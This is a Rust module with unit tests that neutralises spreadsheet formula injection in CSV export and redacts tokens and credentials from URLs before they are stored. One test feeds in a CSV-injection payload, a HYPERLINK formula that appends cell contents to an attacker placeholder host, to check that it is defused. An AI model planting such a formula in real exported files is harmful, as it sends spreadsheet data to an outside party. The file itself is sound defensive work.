//! What leaves the app for other programs: CSV cells a spreadsheet will not run as formulas, and
//! URLs with their secrets taken out before they are stored or written into a file.

/// One CSV cell. The writer says what each cell holds, so a negative number stays a number while
/// text that merely looks like one (or like a formula) is kept as text.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum CsvCell<'a> {
    /// Anything that came from a user or a file: run names, field values, labels.
    Text(&'a str),
    /// A measured value, written as Rust prints it (shortest round-trip form).
    Number(f64),
    /// A count.
    Count(usize),
}

/// Leading characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
/// (OWASP's CSV-injection list: = + - @ tab CR; ASVS adds NUL; LF for good measure).
const FORMULA_START: [char; 8] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];

/// One CSV line (with its `\n`) for `cells`. Every CSV writer goes through this.
///
/// Text cells that start with a formula character get a leading `'` (spreadsheets show the rest
/// as text) and are quoted; text with a comma, quote or line break is quoted as RFC 4180 says;
/// other text is written as it is. Numbers are never touched: `-0.25` stays a number.
pub fn csv_row(cells: &[CsvCell<'_>]) -> String {
    let mut line = String::new();
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            line.push(',');
        }
        match *cell {
            CsvCell::Text(text) => push_text(&mut line, text),
            CsvCell::Number(x) if x.is_finite() => line.push_str(&x.to_string()),
            // Not a number a spreadsheet can read ("-inf" would even start like a formula).
            CsvCell::Number(x) => push_text(&mut line, &x.to_string()),
            CsvCell::Count(n) => line.push_str(&n.to_string()),
        }
    }
    line.push('\n');
    line
}

fn push_text(line: &mut String, text: &str) {
    let formula = text.starts_with(FORMULA_START);
    if formula || text.contains([',', '"', '\n', '\r']) {
        line.push('"');
        if formula {
            line.push('\'');
        }
        line.push_str(&text.replace('"', "\"\""));
        line.push('"');
    } else {
        line.push_str(text);
    }
}

/// `url` without what may be a secret: the query (`?token=…`), the fragment, and any
/// `user:password@` before the host, read as a browser reads the URL (`url_policy::redact`).
/// Use it for every URL that is stored (IndexedDB) or written into a download; the request
/// itself keeps the full URL. Relative URLs lose their query and fragment too.
pub fn redact_url(url: &str) -> String {
    crate::url_policy::redact(url)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_text_is_neutralised_and_numbers_are_not() {
        let line = csv_row(&[
            CsvCell::Text("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"),
            CsvCell::Number(-0.25),
            CsvCell::Count(3),
            CsvCell::Text("-0.25"),
            CsvCell::Text("@SUM(A1)"),
            CsvCell::Text("+1"),
            CsvCell::Text("\tx"),
            CsvCell::Text("\rx"),
        ]);
        assert_eq!(
            line,
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",-0.25,3,\"'-0.25\",\"'@SUM(A1)\",\"'+1\",\"'\tx\",\"'\rx\"\n"
        );
    }

    #[test]
    fn plain_text_is_unchanged_and_delimiters_are_quoted() {
        let line = csv_row(&[
            CsvCell::Text("model-a.negative.jsonl"),
            CsvCell::Text(""),
            CsvCell::Text("a,b"),
            CsvCell::Text("say \"hi\""),
            CsvCell::Text("a=b"),
            CsvCell::Number(0.5),
            CsvCell::Number(f64::NEG_INFINITY),
            CsvCell::Number(f64::NAN),
        ]);
        assert_eq!(
            line,
            "model-a.negative.jsonl,,\"a,b\",\"say \"\"hi\"\"\",a=b,0.5,\"'-inf\",NaN\n"
        );
    }

    #[test]
    fn urls_lose_query_fragment_and_credentials() {
        let cases = [
            (
                "https://host.example/data/x.jsonl?token=secret&x=1",
                "https://host.example/data/x.jsonl",
            ),
            (
                "https://host.example/x.jsonl#sig=abc",
                "https://host.example/x.jsonl",
            ),
            ("https://host.example/x#a?b", "https://host.example/x"),
            (
                "https://user:p@ss@host.example:8443/a@b/x.jsonl?t=1",
                "https://host.example:8443/a@b/x.jsonl",
            ),
            ("https://user@host.example", "https://host.example/"),
            ("https:\\\\u:p@host.example\\x", "https://host.example/x"),
            ("//u:p@host.example/x?t", "//host.example/x"),
            ("demo/demo.positive.jsonl?v=2", "demo/demo.positive.jsonl"),
            (
                "https://huggingface.co/org/model/resolve/main",
                "https://huggingface.co/org/model/resolve/main",
            ),
            ("", ""),
        ];
        for (url, redacted) in cases {
            assert_eq!(redact_url(url), redacted, "{url}");
        }
    }
}
